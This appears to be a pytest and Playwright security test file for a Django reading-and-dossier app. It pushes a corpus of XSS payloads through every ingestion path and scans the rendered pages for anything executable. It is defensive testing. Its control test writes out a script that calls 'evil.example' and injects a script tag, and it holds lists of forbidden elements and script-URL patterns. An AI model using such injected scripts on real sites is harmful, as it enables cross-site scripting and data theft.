"""XSS: a corpus of payloads (tests/security/xss_payloads.py) goes in through every way text
enters the workspace, and every page that shows it is opened in Chromium: nothing runs.

Each payload calls ``window.__xss(N)`` if it ever runs. Every page is opened twice: once as
users see it (the real Content-Security-Policy, the package's console-error/CSP guard) and once
with the CSP bypassed, so that the sanitizers alone are tested (the CSP would otherwise hide
a payload that survived). Both times a probe records ``__xss``, ``alert``/``confirm``/``prompt``,
``fetch``/XHR/beacons to another origin, ``window.open`` and ``<script>``/``<iframe srcdoc>``
inserted after load, and a structural scan of the DOM reports anything executable that is
there but has not run yet (event-handler attributes, ``javascript:``/``data:`` URLs, frames,
objects, ``<base>``, forms and unexpected attributes inside user content, inline styles...).

Ingestion runs in-process (Celery eager, the suite's default), not through a worker.
"""

from __future__ import annotations

import html
import re
from functools import cache
from urllib.parse import quote

import lxml.html
import pytest
from django.core.files.base import ContentFile
from playwright.sync_api import expect

from annotations.services import clean_tag_names, create_annotation
from articles import services as article_services
from articles.cleaning import clean_document
from articles.cleaning.pipeline import clean_pasted
from articles.cleaning.sanitize import ALLOWED_TAGS
from articles.models import Article
from dossiers import services as dossier_services
from tests.browser.conftest import TIMEOUT_MS
from tests.factories import ArticleFactory
from tests.security.xss_payloads import PAYLOADS

# --- The probe -----------------------------------------------------------------------------------

PROBE = r"""
(() => {
  const report = (kind, detail) => {
    const entry = `${kind}: ${String(detail).slice(0, 200)}`;
    try { (window.__xssHits ||= []).push(entry); } catch (e) {}
    try { window.__xssReport(entry); } catch (e) {}
  };
  window.__xss = (id) => report("__xss", id);
  for (const name of ["alert", "confirm", "prompt", "print"]) window[name] = (m) => report(name, m);
  const foreign = (url) => {
    try { return new URL(String(url), location.href).origin !== location.origin; } catch (e) { return true; }
  };
  const fetch = window.fetch;
  window.fetch = function (input, init) {
    const url = typeof input === "string" || input instanceof URL ? input : input && input.url;
    if (foreign(url)) report("fetch", url);
    return fetch.apply(this, arguments);
  };
  const open = XMLHttpRequest.prototype.open;
  XMLHttpRequest.prototype.open = function (method, url) {
    if (foreign(url)) report("xhr", url);
    return open.apply(this, arguments);
  };
  if (navigator.sendBeacon) navigator.sendBeacon = (url) => { report("beacon", url); return true; };
  window.open = (url) => { report("window.open", url); return null; };
  const check = (node) => {
    if (node.nodeType !== 1) return;
    const found = [node, ...node.querySelectorAll("script, iframe[srcdoc]")];
    for (const el of found) {
      if (el.localName === "script") report("script inserted", el.outerHTML);
      else if (el.localName === "iframe" && el.hasAttribute("srcdoc")) report("iframe srcdoc inserted", el.outerHTML);
    }
  };
  const watch = () => new MutationObserver((records) => {
    for (const record of records) for (const node of record.addedNodes) check(node);
  }).observe(document, { childList: true, subtree: true });
  if (document.readyState === "loading") document.addEventListener("DOMContentLoaded", watch);
  else watch();
})();
"""

# Runs after load: whatever is executable (or becomes so on a click) and should not be there.
SCAN = r"""
(allowedUserTags) => {
  const found = [];
  const show = (el) => el.outerHTML.slice(0, 180);
  const flag = (why, el) => found.push(`${why}: ${show(el)}`);
  const allowed = new Set(allowedUserTags);
  const strip = (v) => (v || "").replace(/[\u0000-\u0020\u007f-\u00a0\u2028\u2029\ufeff]/g, "");
  const scriptUrl = (v) => /^(javascript|vbscript|livescript|data):/i.test(strip(v));
  const sameOrigin = (v) => { try { return new URL(v, location.href).origin === location.origin; } catch (e) { return false; } };
  const USER = ".reader__body, .annotation__note, .pin__note, .pin__curator, .dossier__description, .prose, "
    + ".story__note, .article-row__snippet, .note, .passage__quote, .pin__quote, .annotation__quote";
  const USER_ATTRS = new Set(["href", "src", "alt", "title", "rel", "datetime", "colspan", "rowspan", "class",
    "data-o", "data-annotations"]);
  const URL_ATTRS = ["href", "src", "action", "formaction", "data", "poster", "background", "cite", "codebase",
    "ping", "lowsrc", "dynsrc", "xlink:href", "srcset"];
  const FORBIDDEN = new Set(["iframe", "frame", "frameset", "object", "embed", "applet", "base", "portal", "math",
    "style", "noscript", "template", "xmp", "noembed", "noframes", "plaintext", "marquee", "isindex", "keygen",
    "video", "audio", "source", "param", "image"]);
  for (const el of document.querySelectorAll("*")) {
    const tag = el.localName;
    const inHead = el.closest("head") !== null;
    if (tag === "script") {
      const src = el.getAttribute("src") || "";
      if (!src.startsWith("/static/") || el.textContent.trim()) flag("script", el);
    } else if (FORBIDDEN.has(tag)) flag(`<${tag}>`, el);
    else if (tag === "svg" && !el.closest("svg.timeline")) flag("<svg>", el);
    else if (el.namespaceURI === "http://www.w3.org/2000/svg" && !el.closest("svg.timeline")) flag("svg element", el);
    else if (tag === "link" && (!inHead || !sameOrigin(el.getAttribute("href") || "x:"))) flag("<link>", el);
    else if (tag === "meta" && (!inHead || el.hasAttribute("http-equiv"))) flag("<meta>", el);
    else if (tag === "form" && (!sameOrigin(el.getAttribute("action") || location.href) || scriptUrl(el.getAttribute("action")))) flag("form action", el);
    for (const attr of el.attributes) {
      const name = attr.name.toLowerCase();
      if (name.startsWith("on")) flag(`${name}=`, el);
      else if (name === "style" || name === "srcdoc" || name === "formaction" || name === "xlink:href") flag(`${name}=`, el);
      else if (name.startsWith("hx-on") || name.startsWith("data-hx-on")) flag(`${name}=`, el);
      if (URL_ATTRS.includes(name) && scriptUrl(attr.value)) flag(`${name}=${attr.value.slice(0, 40)}`, el);
    }
    const container = el.parentElement && el.parentElement.closest(USER);
    if (container) {
      if (!allowed.has(tag)) flag(`<${tag}> in user content`, el);
      for (const attr of el.attributes) {
        if (!USER_ATTRS.has(attr.name.toLowerCase())) flag(`${attr.name}= in user content`, el);
      }
    }
  }
  return found;
}
"""
USER_CONTENT_TAGS = sorted(ALLOWED_TAGS | {"span", "mark"})


class Probe:
    """Opens pages in the guarded page (CSP on) and in a context with the CSP bypassed."""

    def __init__(self, page, browser, server_url, guard_problems: list[str]):
        self.server_url = server_url
        self.guard_problems = guard_problems  # the package guard's list (console errors, CSP violations)
        self.tolerated_image_origin = ""
        self.served_origins: list[str] = []  # besides the live server, not answered with an empty 204
        self.hits: list[str] = []
        self.pages_opened: list[str] = []
        self.free_problems: list[str] = []
        self.page = page
        self._arm(page.context, page)
        context = browser.new_context(viewport={"width": 1280, "height": 900}, service_workers="block", bypass_csp=True)
        context.set_default_timeout(TIMEOUT_MS)
        context.add_cookies(page.context.cookies())
        self.free_context = context
        self.free_page = context.new_page()
        self._arm(context, self.free_page)
        self.free_page.on(
            "pageerror", lambda error: self.free_problems.append(f"uncaught {error.name}: {error.message}")
        )

    def _arm(self, context, page) -> None:
        label = "csp-bypassed" if context is not self.page.context else "csp"
        context.expose_binding(
            "__xssReport", lambda source, entry: self.hits.append(f"[{label}] {source['frame'].url}: {entry}")
        )
        context.add_init_script(PROBE)
        # Nothing leaves the machine (the context already refuses); images elsewhere get an empty answer,
        # so a sanitized external <img> is no console error.
        page.route(
            lambda url: not any(url.startswith(f"{o}/") for o in [self.server_url, *self.served_origins]),
            lambda route: route.fulfill(status=204),
        )
        page.on(
            "dialog",
            lambda dialog: (self.hits.append(f"[{label}] dialog {dialog.type}: {dialog.message}"), dialog.dismiss()),
        )

    def close(self) -> None:
        self.free_context.close()

    def visit(
        self, path: str, *, expect_text: list[str] = (), route_download: bool = False, once: bool = False
    ) -> None:
        """Open `path` with the CSP and without (`once`: without only, the stricter of the two)."""
        url = path if path.startswith("http") else f"{self.server_url}{path}"
        self.pages_opened.append(path)
        for page in (self.free_page,) if once else (self.page, self.free_page):
            if route_download:  # an export is an attachment: show it as the browser would once opened
                page.route(url, _inline)
            page.goto(url, wait_until="load")
            page.evaluate("() => new Promise((done) => requestAnimationFrame(() => setTimeout(done, 60)))")
            problems = page.evaluate(SCAN, USER_CONTENT_TAGS)
            assert not problems, f"{path}: executable content on the page:\n" + "\n".join(problems[:40])
            for text in expect_text:
                assert text in page.content(), f"{path}: {text!r} not shown"
            if route_download:
                page.unroute(url)
        if self.tolerated_image_origin:
            # Pages fetched from the test's plain-http site keep http images, which the CSP (img-src https:)
            # blocks: expected here, and no script. Everything else the guard reports still fails the test.
            self.page.evaluate("0")
            self.guard_problems[:] = [
                p for p in self.guard_problems if not ("img-src" in p and f"{self.tolerated_image_origin}/" in p)
            ]
        assert not self.hits, f"{path}: payloads ran:\n" + "\n".join(self.hits[:40])
        assert not self.free_problems, f"{path}: " + "\n".join(self.free_problems)


def _inline(route) -> None:
    response = route.fetch()
    headers = {k: v for k, v in response.headers.items() if k.lower() != "content-disposition"}
    route.fulfill(response=response, headers=headers)


@pytest.fixture
def probe(signed_in_page, browser, server_url, request):
    probe = Probe(signed_in_page, browser, server_url, request.node.browser_problems[1])
    yield probe
    probe.close()


def test_the_probe_sees_payloads_that_run_and_markup_that_could(probe, local_site):
    """The control: the same checks on an unsanitized page (another origin, no CSP) do fail."""
    origin = local_site.url("")
    probe.served_origins.append(origin)
    raw = [PAYLOADS[0], PAYLOADS[34], PAYLOADS[144], '<a href="javascript:__xss(999)">x</a>']
    script = "<script>fetch('https://evil.example/'); addEventListener('load', () => document.body.append(document.createElement('script')))</script>"
    url = local_site.add("/raw.html", "<!doctype html><body>" + "".join(raw) + script + "</body>")
    with pytest.raises(AssertionError) as caught:
        probe.visit(url, once=True)
    assert "script" in str(caught.value) and "href=javascript:__xss(999)" in str(caught.value)
    probe.free_page.goto(url)
    probe.free_page.wait_for_timeout(300)
    hits = "\n".join(probe.hits)
    for expected in ("__xss: 0", "__xss: 34", "__xss: 144", "fetch: https://evil.example/", "script inserted"):
        assert expected in hits, f"{expected!r} not seen by the probe:\n{hits}"
    probe.hits.clear()


# --- The documents carrying the corpus ------------------------------------------------------------------


def opens(n: int) -> str:
    return f"Item {n} opens here"


def closes(n: int) -> str:
    return f"Item {n} closes here"


def paragraphs(ids) -> str:
    return "".join(
        f"<p>{opens(n)}: the council report lists the figures. {PAYLOADS[n]}</p>\n"
        f"<p>{closes(n)} with the sources named in full.</p>\n"
        for n in ids
    )


@cache
def batches() -> list[list[int]]:
    """The corpus in a few documents. A handful of payloads swallow whatever follows them (an unclosed
    <plaintext>, a <frameset>...): each of those ends a document, so every other payload is read."""
    swallowing = [
        n
        for n in range(len(PAYLOADS))
        if closes(n) not in clean_pasted(paragraphs([n]) + "<p>More words so that it is a whole article.</p>").text
    ]
    rest = [n for n in range(len(PAYLOADS)) if n not in swallowing]
    size = -(-len(rest) // max(len(swallowing), 1))
    groups = [[*rest[k * size : (k + 1) * size], n] for k, n in enumerate(swallowing)]
    return [g for g in groups if g] or [rest]


def web_page(ids: list[int], path: str) -> str:
    """A whole news page: payloads in the article body and in the metadata the reader shows."""
    meta = [PAYLOADS[ids[k % len(ids)]] for k in range(5)]
    return f"""<!doctype html>
<html lang="en"><head><meta charset="utf-8">
<title>Council report {path} {html.escape(meta[0], quote=False)}</title>
<meta name="description" content="{html.escape(meta[1])}">
<meta name="author" content="{html.escape(meta[2])}">
<meta property="og:site_name" content="{html.escape(meta[3])}">
<link rel="canonical" href="{html.escape(meta[4])}">
</head><body>
<nav><a href="/">Home</a> <a href="/news">News</a></nav>
<article><h1>Council report</h1>
<p>This copy came in by the {path} path, batch {ids[0]}.</p>
{paragraphs(ids)}
</article></body></html>"""


def plain_text(ids) -> str:
    """Plain text that stays text: a long plain preamble, so the file is not sniffed as HTML."""
    preamble = "\n\n".join(
        f"Preamble paragraph {k}: the council published its annual report on housing, care and transport."
        for k in range(120)
    )
    return preamble + "\n\n" + "\n\n".join(f"{opens(n)}: {PAYLOADS[n]}\n\n{closes(n)}." for n in ids)


def markdown(ids) -> str:
    return "# Council report in Markdown\n\n" + "\n\n".join(f"{opens(n)}: {PAYLOADS[n]}\n\n{closes(n)}." for n in ids)


def ready(article: Article) -> Article:
    article.refresh_from_db()
    assert article.status == Article.Status.READY, f"{article.label}: {article.status} {article.last_error}"
    return article


def assert_all_read(articles: list[Article], ids) -> None:
    """Every payload reached the page: its paragraph is in the text (those that swallow the rest: their start)."""
    text = "\n".join(a.text for a in articles)
    missing = [n for n in ids if opens(n) not in text]
    assert not missing, f"payloads lost before the sanitizer: {missing}"


def submit(capture, fn, **kwargs):
    with capture(execute=True):
        return fn(**kwargs)


# --- Stored HTML: nothing executable survives cleaning -----------------------------------------------

BAD_ELEMENTS = {
    "script",
    "iframe",
    "frame",
    "frameset",
    "form",
    "base",
    "object",
    "embed",
    "applet",
    "meta",
    "link",
    "svg",
    "math",
    "style",
    "template",
    "noscript",
    "input",
    "button",
    "textarea",
    "select",
    "video",
    "audio",
    "source",
}
SCRIPT_URL = re.compile(r"^(javascript|vbscript|livescript|data):", re.I)
INVISIBLE = re.compile(r"[\x00-\x20\x7f-\xa0\u2028\u2029\ufeff]")


def stored_html_problems(markup: str) -> list[str]:
    root = lxml.html.fragment_fromstring(markup, create_parent="div")
    problems = []
    for element in root.iter():
        tag = element.tag.lower() if isinstance(element.tag, str) else ""
        if tag in BAD_ELEMENTS or (tag and tag.split("}")[-1] in BAD_ELEMENTS):
            problems.append(f"<{tag}>")
        for name, value in element.attrib.items():
            name = name.lower()
            if name.startswith("on") or name in {"style", "srcset", "srcdoc", "formaction", "background"}:
                problems.append(f"<{tag} {name}=>")
            if SCRIPT_URL.match(INVISIBLE.sub("", value)):
                problems.append(f"<{tag} {name}={value[:40]}>")
    # And the raw markup of every tag (text is escaped, so "<" only ever opens a real tag).
    # (quoted attribute values are blanked first: a title may say "onerror=", as text).
    tags = " ".join(re.findall(r"<[^>]*>", markup)).lower()
    names_only = re.sub(r""""[^"]*"|'[^']*'""", '""', tags)
    for needle in (
        "<script",
        "<iframe",
        "<form",
        "<base",
        "<object",
        "<embed",
        "<meta",
        "<svg",
        "<math",
        "srcset",
        "style=",
    ):
        if needle in names_only:
            problems.append(f"substring {needle}")
    if re.search(r"\son\w+\s*=", names_only):
        problems.append("an on...= attribute")
    for value in re.findall(r"""=\s*"([^"]*)"|=\s*'([^']*)'""", tags):
        if SCRIPT_URL.match(INVISIBLE.sub("", html.unescape("".join(value)))):
            problems.append(f"a script URL: {''.join(value)[:40]}")
    return problems


def test_the_stored_html_of_pasted_payload_pages_keeps_nothing_executable(editor, django_capture_on_commit_callbacks):
    workspace, user = editor.workspace, editor.user
    articles = []
    for ids in batches():
        for text in (web_page(ids, "paste"), paragraphs(ids)):  # a whole page; a selection (straight to the sanitizer)
            articles.append(
                ready(
                    submit(
                        django_capture_on_commit_callbacks,
                        article_services.submit_paste,
                        workspace=workspace,
                        user=user,
                        text=text,
                    )
                )
            )
    assert_all_read(articles[0::2], range(len(PAYLOADS)))
    assert_all_read(articles[1::2], range(len(PAYLOADS)))
    for article in articles:
        problems = stored_html_problems(article.html)
        assert not problems, f"{article.label}: {sorted(set(problems))}"
        # Metadata is text, rendered escaped; the canonical URL is the one URL the reader links to.
        assert not SCRIPT_URL.match(INVISIBLE.sub("", article.canonical_url)), article.canonical_url


# --- Articles: paste, upload (.html, .txt, .md), URL --------------------------------------------------


def test_payloads_ingested_by_paste_upload_and_url_run_nowhere(
    probe, editor, local_site, settings, django_capture_on_commit_callbacks
):
    settings.FETCH_ALLOW_LOOPBACK = True
    probe.tolerated_image_origin = local_site.url("")
    workspace, user = editor.workspace, editor.user
    everything = range(len(PAYLOADS))

    def sub(fn, **kwargs):
        return submit(django_capture_on_commit_callbacks, fn, workspace=workspace, user=user, **kwargs)

    by_path: dict[str, list[Article]] = {"paste": [], "selection": [], "clipboard": [], "upload": [], "url": []}
    for ids in batches():
        by_path["paste"].append(sub(article_services.submit_paste, text=web_page(ids, "paste")))
        by_path["selection"].append(
            sub(article_services.submit_paste, text=f"<p>A pasted selection, batch {ids[0]}.</p>" + paragraphs(ids))
        )
        # A browser's copy: plain text in the box, the page's markup beside it (the hidden `html` field).
        by_path["clipboard"].append(
            sub(
                article_services.submit_paste,
                text=f"A story copied from a page, batch {ids[0]}.",
                html=f"<meta charset='utf-8'><h1>Copied, batch {ids[0]}</h1>" + paragraphs(ids),
                source_url=f"https://clipboard.example/news/{ids[0]}",
            )
        )
        page = web_page(ids, "upload")
        by_path["upload"].append(
            sub(
                article_services.submit_file,
                file=ContentFile(page.encode(), name=f"batch-{ids[0]}.html"),
                content_type="text/html",
            )
        )
        url = local_site.add(f"/news/batch-{ids[0]}.html", web_page(ids, "url"))
        by_path["url"].extend(sub(article_services.submit_urls, urls=[url]))
    by_path["text"] = [
        sub(
            article_services.submit_file,
            file=ContentFile(plain_text(everything).encode(), name="report.txt"),
            content_type="text/plain",
        )
    ]
    by_path["markdown"] = [
        sub(
            article_services.submit_file,
            file=ContentFile(markdown(everything).encode(), name="report.md"),
            content_type="text/markdown",
        )
    ]
    for articles in by_path.values():
        articles[:] = [ready(a) for a in articles]
        assert_all_read(articles, everything)
    assert "&lt;script&gt;" in by_path["text"][0].html, "the .txt file was not read as plain text"

    all_articles = [a for articles in by_path.values() for a in articles]
    for article in all_articles:
        sample = next(n for n in everything if opens(n) in article.text)
        probe.visit(f"/articles/{article.pk}/", expect_text=[opens(sample)])
    probe.visit("/articles/")
    probe.visit(f"/articles/add/?batch={','.join(str(a.pk) for a in all_articles)}")
    probe.visit(f"/articles/rows/?ids={','.join(str(a.pk) for a in all_articles)}")
    for query in ("opens", "script", "javascript", "onerror xss"):
        probe.visit(f"/articles/search/?q={quote(query)}")
    print(f"{len(PAYLOADS)} payloads, {len(all_articles)} articles, {len(probe.pages_opened)} pages opened twice")


# --- Notes, tags, dossiers ----------------------------------------------------------------------------


def test_payloads_in_notes_tags_and_dossiers_run_nowhere(probe, editor, django_capture_on_commit_callbacks):
    workspace, user = editor.workspace, editor.user
    everything = range(len(PAYLOADS))
    # An article whose text is the payloads, so passages quote them too.
    cleaned = clean_document(plain_text(everything).encode(), filename="quotes.txt")
    article = ArticleFactory(
        workspace=workspace, html=cleaned.html, text=cleaned.text, title=PAYLOADS[0], site_name=PAYLOADS[1]
    )
    blocks, offset, starts = article.text.split("\n\n"), 0, []
    for block in blocks:
        starts.append(offset)
        offset += len(block) + 2
    tag_names = clean_tag_names(PAYLOADS)
    annotations = []
    for n in everything:
        k = next(i for i, block in enumerate(blocks) if block.startswith(opens(n) + ":"))
        annotations.append(
            create_annotation(
                article=article,
                user=user,
                start=starts[k],
                end=starts[k] + len(blocks[k]),
                exact=blocks[k],
                note=PAYLOADS[n],
                tag_names=[tag_names[n % len(tag_names)]],
            )
        )
    for n in range(0, len(PAYLOADS), 10):  # notes on the whole article
        create_annotation(article=article, user=user, note=PAYLOADS[n], tag_names=[tag_names[(n + 1) % len(tag_names)]])

    # The dossier page shows 20 passages per section: all of them are shown in sections of 20.
    dossier = dossier_services.create_dossier(
        workspace=workspace, user=user, title=PAYLOADS[0][:200], description="\n\n".join(PAYLOADS)
    )
    sections = [
        dossier_services.create_section(dossier=dossier, title=PAYLOADS[k][:200], note=PAYLOADS[k])
        for k in range(0, len(annotations), 20)
    ]
    for n, annotation in enumerate(annotations):
        dossier_services.pin_passage(
            dossier=dossier, annotation=annotation, section=sections[n // 20], note=PAYLOADS[-1 - n]
        )
    # Every payload as a section title and note (in a dossier of its own: each pin lists the sections).
    outline = dossier_services.create_dossier(workspace=workspace, user=user, title=PAYLOADS[1][:200], description="")
    for n in everything:
        dossier_services.create_section(dossier=outline, title=PAYLOADS[n][:200], note=PAYLOADS[n])
    item = dossier.items.get()
    dossier_services.set_article_note(item=item, note="\n\n".join(PAYLOADS)[:20_000])
    for n in everything:
        dossier_services.create_dossier(
            workspace=workspace, user=user, title=PAYLOADS[n][:200], description=PAYLOADS[n]
        )

    probe.visit(f"/articles/{article.pk}/", expect_text=["__xss(0)", "__xss(268)"])
    for number in range(1, -(-len(annotations) // 50) + 1):
        probe.visit(f"/annotations/passages/?page={number}")
    probe.visit(f"/annotations/passages/?q={quote('xss')}")
    for number in range(1, -(-len(tag_names) // 100) + 1):
        probe.visit(f"/annotations/tags/?page={number}")
    tag = annotations[0].tags.get()
    probe.visit(f"/annotations/tags/?q={quote('script')}&merge={tag.pk}")
    probe.visit(f"/dossiers/{dossier.pk}/", expect_text=["__xss(0)", "__xss(268)"])
    probe.visit(f"/dossiers/{outline.pk}/")
    probe.visit(f"/dossiers/{dossier.pk}/edit/")
    probe.visit(f"/dossiers/{dossier.pk}/passages/")
    probe.visit(f"/dossiers/{dossier.pk}/passages/?tag={tag.pk}")
    probe.visit("/dossiers/")
    probe.visit(f"/dossiers/pin/?annotation={annotations[0].pk}")
    probe.visit(f"/dossiers/file/?articles={article.pk}")
    probe.visit(f"/dossiers/{dossier.pk}/export/html/", route_download=True, expect_text=["__xss(0)"])
    print(f"{len(annotations)} passages, {len(tag_names)} tags, {len(probe.pages_opened)} pages opened twice")


# --- File names -----------------------------------------------------------------------------------------


def file_name_payloads() -> list[str]:
    """Payloads that survive as a file name (a path separator starts the name anew)."""
    return [p for p in PAYLOADS if "/" not in p and "\\" not in p and len(p) < 190]


def test_payloads_as_file_names_run_nowhere(probe, editor, django_capture_on_commit_callbacks):
    workspace, user = editor.workspace, editor.user
    articles = []
    for k, name in enumerate(file_name_payloads()):
        extension = (".txt", ".html", ".md")[k % 3]
        body = f"File {k}: the harbour authority approved the sea wall after two winters of flooding, number {k}."
        file = ContentFile(body.encode(), name=name + extension)
        articles.append(
            submit(
                django_capture_on_commit_callbacks,
                article_services.submit_file,
                workspace=workspace,
                user=user,
                file=file,
            )
        )
    empty = ContentFile(b"", name=PAYLOADS[34] + ".pdf")  # a failed one: its name and error on the rows
    articles.append(
        submit(
            django_capture_on_commit_callbacks, article_services.submit_file, workspace=workspace, user=user, file=empty
        )
    )
    for article in articles:
        article.refresh_from_db()
    assert sum(a.status == Article.Status.READY for a in articles) == len(articles) - 1

    # One more through the real upload form: the browser's own multipart encoding of the name.
    page = probe.page
    page.goto(f"{probe.server_url}/articles/add/")
    page.get_by_label("Files").set_input_files(
        [
            {
                "name": f"{p}.txt",
                "mimeType": "text/plain",
                "buffer": f"Uploaded file {k} about the harbour sea wall.".encode(),
            }
            for k, p in enumerate(file_name_payloads()[:5])
        ]
    )
    page.get_by_role("button", name=re.compile(r"^Add to ")).click()
    expect(page.locator("section.batch .article-row")).to_have_count(5)

    for number in range(1, -(-Article.objects.count() // 50) + 1):
        probe.visit(f"/articles/?page={number}")
    probe.visit(f"/articles/add/?batch={','.join(str(a.pk) for a in articles)}")
    for article in Article.objects.order_by("pk"):
        probe.visit(f"/articles/{article.pk}/", once=True)
    print(f"{len(articles) + 5} file names, {len(probe.pages_opened)} pages opened")
